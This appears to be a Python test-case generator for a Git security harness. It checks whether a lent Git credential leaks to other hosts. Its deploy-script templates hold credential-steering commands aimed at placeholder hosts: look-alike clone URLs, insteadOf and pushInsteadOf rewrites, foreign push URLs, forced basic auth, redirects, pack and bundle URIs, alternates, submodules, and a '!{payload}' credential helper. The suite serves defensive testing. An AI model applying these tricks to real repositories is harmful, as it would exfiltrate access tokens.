"""A command that has the Git credential (`gitAccess`), where a host, a checkout or a machine wants it sent elsewhere.

Each command clones a private module of its own host first, which only the credential opens, and leaves its good mark
only if it got it. Then comes the attack. Other hosts are known and trusted, and take whatever credential they are sent.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import replace

from hostile_git.case import Case, deployed
from hostile_git.objects import File, Folder, Submodule, script
from hostile_git.protocol import ADVERTISEMENT, PACK, REFS, Exchange, Reply, honest
from hostile_git.redirects import redirecting
from hostile_git.reported import uris
from hostile_git.server import Behaviour, with_token
from hostile_git.surroundings import HELPER, configured
from hostile_git.wire import at, bundles, dumb
from hostile_git.world import GOOD, SECRET_ON_DISK, Repository, World

LENT = {"gitAccess": True}
TRAP = "trap"

BEFORE = """export GIT_SSL_CAINFO={authority}
test "$(git rev-parse --abbrev-ref HEAD)" = {branch} || exit 1
git clone --quiet {own}/module.git module && git fetch --quiet origin && {good}
"""
AFTER = """
grep -rqsFf {canary} . && {on_disk}
exit 0
"""
IN_THE_CHECKOUT = {
    "clones from another port": "git clone {elsewhere} x",
    "clones without TLS": "git clone {plain} x",
    "clones from the own port without TLS": "git clone http://localhost:{port}/{key}/module.git x",
    "clones from a URL that looks like the own one": "git clone https://localhost:{port}@{other}/{key}/repo.git x",
    "clones from a URL with a user of its own": "git clone https://x-access-token@{other}/{key}/repo.git x",
    "has another URL for ours": "git config url.{elsewhere}.insteadOf {own}/module.git; git clone {own}/module.git x",
    "fetches from ours under another URL": "git config url.{elsewhere}.insteadOf {registered}; git fetch origin",
    "pushes to another URL": "git config url.{elsewhere}.pushInsteadOf {registered}; git push origin HEAD",
    "has a push URL elsewhere": "git remote set-url --push origin {elsewhere}; git push origin HEAD",
    "asks for credentials by path": "git -c credential.useHttpPath=true clone {elsewhere} x",
    "adds a submodule of another host": "git submodule add {elsewhere} x",
    "sends what it is not asked for": "git -c http.proactiveAuth=basic clone {elsewhere} x",
}
"""What commands do, or a checkout's own configuration makes them do."""


def cases() -> Iterator[Case]:
    for name, attack in IN_THE_CHECKOUT.items():
        yield lent(f"a command with the credential {name}", attack)
    for status in (301, 302, 307, 308):
        for target in ("elsewhere", "plain"):
            for stage in (ADVERTISEMENT, REFS, PACK):
                trap = redirecting(status, stage, f"{{{target}}}", needs_token=True)
                yield lent(f"a module is redirected ({status}) to {target} at the {stage}", "git clone {trap} x", trap)
            trap = redirecting(status, ADVERTISEMENT, f"{{{target}}}", needs_token=False)
            yield lent(f"a module is redirected ({status}) to {target} at once", "git clone {trap} x", trap)
    # Settings for a longer URL go before those for an origin: git itself must not take the credential along.
    trap = redirecting(302, ADVERTISEMENT, "{elsewhere}", needs_token=True)
    attack = "git config http.{trap}.followRedirects true; git ls-remote {trap}"
    yield lent("a redirect is allowed by a checkout's own configuration", attack, trap)
    for target in ("elsewhere", "plain"):
        yield lent(f"a module names a pack ({target})", "git clone {trap} x", at(PACK, uris(target)))
        attack = "git -c fetch.uriProtocols=https,http clone {trap} x"
        yield lent(f"a module names a pack ({target}) to who asks for it", attack, at(PACK, uris(target)))
        attack = "git -c transfer.bundleURI=true clone {trap} x"
        yield lent(f"a module names a bundle ({target})", attack, bundles(target))
        for file in ("info/alternates", "info/http-alternates"):
            trap = empty(dumb(f"objects/{file}", f"{{{target}}}/objects"))
            yield lent(
                f"a module is a dumb host's, which names another ({target}) in {file}", "git clone {trap} x", trap
            )
        attack = "git clone --recurse-submodules {trap} x"
        yield lent(f"a module has a submodule of another host ({target})", attack, with_submodule(f"{{{target}}}"))
    machines = {
        "a helper": HELPER,
        "a helper that keeps what it is told": "[credential]\nhelper = store\n",
        "a helper for the own origin": '[credential "https://localhost"]\nhelper = !{payload}\n',
        "another URL for ours": '[url "{elsewhere}"]\ninsteadOf = {registered}/nothing\n',
        "redirects allowed": "[http]\nfollowRedirects = true\n",
        "one more URL part in helpers' questions": "[credential]\nuseHttpPath = true\n",
    }
    trap = redirecting(302, ADVERTISEMENT, "{elsewhere}", needs_token=True)
    for name, text in machines.items():
        yield lent(f"a credential is lent on a machine with {name}", "git clone {trap} x", trap, configured(text))


def lent(
    name: str, attack: str, trap: Behaviour = honest, machine: Callable[[World], dict[str, str]] | None = None
) -> Case:
    return Case(name, deployed(), command(attack), host=trapping(trap), register=LENT, machine=machine, is_public=True)


def trapping(trap: Behaviour) -> Behaviour:
    """A private host, one of whose repositories is hostile."""
    private = with_token(honest)
    return lambda exchange: trap(exchange) if exchange.name == TRAP else private(exchange)


def command(attack: str) -> Callable[[World], None]:
    def content(world: World) -> None:
        registered, elsewhere = world.places["registered"], world.places["elsewhere"]
        own = registered.removesuffix("/repo.git")
        text = (BEFORE + attack + AFTER).format(
            own=own,
            trap=f"{own}/{TRAP}.git",
            port=own.split(":")[2].split("/")[0],
            other=elsewhere.split("/")[2],
            key=world.key,
            branch=world.branch,
            good=world.mark(GOOD),
            on_disk=world.mark(SECRET_ON_DISK),
            canary=world.directory / "canary",
            **world.places,
        )
        tree = world.store.put(Folder([(b"deploy.sh", script(text))]))[1]
        world.commits[GOOD] = world.refs[world.branch_ref] = world.store.commit(tree)

    return content


def empty(behaviour: Behaviour) -> Behaviour:
    """A host that has refs, and no object of them."""

    def answer(exchange: Exchange) -> Reply:
        refs = Repository(refs=exchange.repository.refs, head=exchange.repository.head)
        return with_token(behaviour)(replace(exchange, repository=refs))

    return answer


def with_submodule(url: str) -> Behaviour:
    def answer(exchange: Exchange) -> Reply:
        world = exchange.world
        other = Repository(head=world.branch_ref)
        modules = f'[submodule "x"]\npath = x\nurl = {url.format(**world.places)}\n'
        commit = world.foreign.refs[world.branch_ref]
        tree = other.store.put(Folder([(b".gitmodules", File(modules.encode())), (b"x", Submodule(commit))]))[1]
        other.refs = {world.branch_ref: other.store.commit(tree)}
        return with_token(honest)(replace(exchange, repository=other))

    return answer
